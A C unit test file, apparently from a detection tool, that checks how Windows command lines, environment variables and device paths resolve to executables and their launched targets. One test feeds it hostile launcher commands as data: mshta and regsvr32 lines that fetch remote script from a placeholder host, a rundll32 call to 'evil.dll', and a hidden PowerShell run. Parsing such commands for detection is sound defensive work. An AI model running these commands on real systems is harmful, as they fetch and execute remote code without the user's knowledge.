#include "detect/winpath.h"

#include <setjmp.h>
#include <stdarg.h>
#include <cmocka.h>

static arena mem;
static winpath_host host;

static int begin(void **state)
{
    (void)state;
    arena_init(&mem, 0);
    host = (winpath_host){ 0 };
    winpath_put(&host, "SystemRoot", "D:\\Windows");
    winpath_put(&host, "windir", "%SystemRoot%");
    winpath_put(&host, "ProgramFiles", "D:\\Program Files");
    return 0;
}

static int end(void **state)
{
    (void)state;
    arena_done(&mem);
    return 0;
}

static void is_file(const char *command, const char *file, const char *target)
{
    winpath p = winpath_command(&host, command, &mem);
    assert_string_equal(p.file, file);
    assert_string_equal(p.target, target);
}

static void variables_are_those_of_the_host(void **state)
{
    (void)state;
    is_file("%windir%\\system32\\alg.exe", "D:\\Windows\\system32\\alg.exe", "");
    is_file("%ProgramFiles%\\a\\b.exe -x", "D:\\Program Files\\a\\b.exe", "");
    is_file("%NoSuch%\\b.exe", "%NoSuch%\\b.exe", "");
    winpath_host nothing = { 0 };
    assert_string_equal(winpath_command(&nothing, "\\SystemRoot\\System32\\x.exe", &mem).file, "%SystemRoot%\\System32\\x.exe");
    assert_string_equal(winpath_command(&nothing, "system32\\drivers\\x.sys", &mem).file, "%SystemRoot%\\system32\\drivers\\x.sys");
    assert_string_equal(winpath_command(&nothing, "\\Windows\\x.exe", &mem).file, "%SystemDrive%\\Windows\\x.exe");
}

static void a_variable_that_names_itself_ends(void **state)
{
    (void)state;
    winpath_put(&host, "a", "%b%%b%");
    winpath_put(&host, "b", "%a%%a%");
    assert_true(strlen(winpath_full(&host, "%a%\\x.exe", &mem)) <= WINPATH_TEXT);
    assert_string_equal(winpath_full(&host, "%%", &mem), "%%");
}

static void prefixes_of_devices_go(void **state)
{
    (void)state;
    is_file("\\??\\C:\\a\\b.sys", "C:\\a\\b.sys", "");
    is_file("\\\\?\\C:\\a\\b.sys", "C:\\a\\b.sys", "");
    is_file("\\??\\UNC\\server\\share\\x.exe", "\\\\server\\share\\x.exe", "");
    is_file("\\\\server\\share\\x.exe -a", "\\\\server\\share\\x.exe", "");
    is_file("\\SystemRoot\\System32\\drivers\\x.sys", "D:\\Windows\\System32\\drivers\\x.sys", "");
    is_file("System32\\DRIVERS\\x.sys", "D:\\Windows\\System32\\DRIVERS\\x.sys", "");
    is_file("\\Program Files\\x.exe", "D:\\Program Files\\x.exe", "");
    is_file("\\Device\\HarddiskVolume1\\x.exe", "\\Device\\HarddiskVolume1\\x.exe", "");
}

static void a_path_without_quotes_ends_at_the_first_program(void **state)
{
    (void)state;
    winpath p = winpath_command(&host, "C:\\Program Files\\Some Thing\\run.exe /service", &mem);
    assert_string_equal(p.file, "C:\\Program Files\\Some Thing\\run.exe");
    assert_string_equal(p.arguments, "/service");
    assert_true(p.unquoted);
    p = winpath_command(&host, "\"C:\\Program Files\\Some Thing\\run.exe\" /service", &mem);
    assert_string_equal(p.file, "C:\\Program Files\\Some Thing\\run.exe");
    assert_false(p.unquoted);
    p = winpath_command(&host, "D:\\Windows\\system32\\svchost.exe -k netsvcs", &mem);
    assert_string_equal(p.arguments, "-k netsvcs");
    assert_false(p.unquoted);
    is_file("C:\\a.b c\\d", "C:\\a.b c\\d.exe", "");
    is_file("\"C:\\no end", "C:\\no end.exe", "");
    is_file("", "", "");
    is_file("   ", "", "");
}

static void a_bare_name_lies_in_the_system_folder(void **state)
{
    (void)state;
    is_file("explorer.exe", "D:\\Windows\\explorer.exe", "");
    is_file("rdpclip", "D:\\Windows\\System32\\rdpclip.exe", "");
    is_file("powershell", "D:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "");
    assert_string_equal(winpath_library(&host, "scecli", &mem), "D:\\Windows\\System32\\scecli.dll");
    assert_string_equal(winpath_library(&host, "C:\\x\\y", &mem), "C:\\x\\y.dll");
    host.wow = true;
    is_file("notes.exe", "D:\\Windows\\SysWOW64\\notes.exe", "");
    is_file("%windir%\\system32\\notes.exe", "D:\\Windows\\SysWOW64\\notes.exe", "");
    is_file("%windir%\\sysnative\\notes.exe", "D:\\Windows\\System32\\notes.exe", "");
}

static void what_only_runs_others_names_its_target(void **state)
{
    (void)state;
    is_file("rundll32.exe C:\\x\\evil.dll,Start", "D:\\Windows\\System32\\rundll32.exe", "C:\\x\\evil.dll");
    is_file("rundll32 \"C:\\a b\\evil.dat\",#1", "D:\\Windows\\System32\\rundll32.exe", "C:\\a b\\evil.dat");
    is_file("rundll32 shell32,Control_RunDLL \"sysdm.cpl\"", "D:\\Windows\\System32\\rundll32.exe", "D:\\Windows\\System32\\shell32.dll");
    is_file("cmd.exe /c C:\\t\\a.bat arg", "D:\\Windows\\System32\\cmd.exe", "C:\\t\\a.bat");
    is_file("cmd /q /c start /min \"\" C:\\t\\a.exe & del x", "D:\\Windows\\System32\\cmd.exe", "C:\\t\\a.exe");
    is_file("cmd /c \"C:\\t t\\a.exe\"", "D:\\Windows\\System32\\cmd.exe", "C:\\t t\\a.exe");
    is_file("cmd /c \"\"C:\\t t\\a.exe\" -x\"", "D:\\Windows\\System32\\cmd.exe", "C:\\t t\\a.exe");
    is_file("cmd /c echo hi > \\\\.\\pipe\\x", "D:\\Windows\\System32\\cmd.exe", "");
    is_file("wscript //B //E:vbscript C:\\x\\a.txt", "D:\\Windows\\System32\\wscript.exe", "C:\\x\\a.txt");
    is_file("mshta http://a.example/x", "D:\\Windows\\System32\\mshta.exe", "http://a.example/x");
    is_file("regsvr32 /s /i:http://a.example/x.sct scrobj.dll", "D:\\Windows\\System32\\regsvr32.exe", "http://a.example/x.sct");
    is_file("regsvr32 /s C:\\x\\y.ocx", "D:\\Windows\\System32\\regsvr32.exe", "C:\\x\\y.ocx");
    is_file("msiexec /q /i C:\\x\\y.msi", "D:\\Windows\\System32\\msiexec.exe", "C:\\x\\y.msi");
    is_file("powershell -w hidden -File C:\\x\\y.ps1", "D:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "C:\\x\\y.ps1");
}

static void dots_in_a_path_are_resolved(void **state)
{
    (void)state;
    is_file("C:\\a\\..\\b\\.\\c.exe", "C:\\b\\c.exe", "");
    is_file("C:/a/b.exe", "C:\\a\\b.exe", "");
    is_file("C:\\..\\..\\b.exe", "C:\\b.exe", "");
    is_file("\\\\s\\..\\b.exe", "\\\\s\\b.exe", "");
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test_setup_teardown(variables_are_those_of_the_host, begin, end),
        cmocka_unit_test_setup_teardown(a_variable_that_names_itself_ends, begin, end),
        cmocka_unit_test_setup_teardown(prefixes_of_devices_go, begin, end),
        cmocka_unit_test_setup_teardown(a_path_without_quotes_ends_at_the_first_program, begin, end),
        cmocka_unit_test_setup_teardown(a_bare_name_lies_in_the_system_folder, begin, end),
        cmocka_unit_test_setup_teardown(what_only_runs_others_names_its_target, begin, end),
        cmocka_unit_test_setup_teardown(dots_in_a_path_are_resolved, begin, end),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
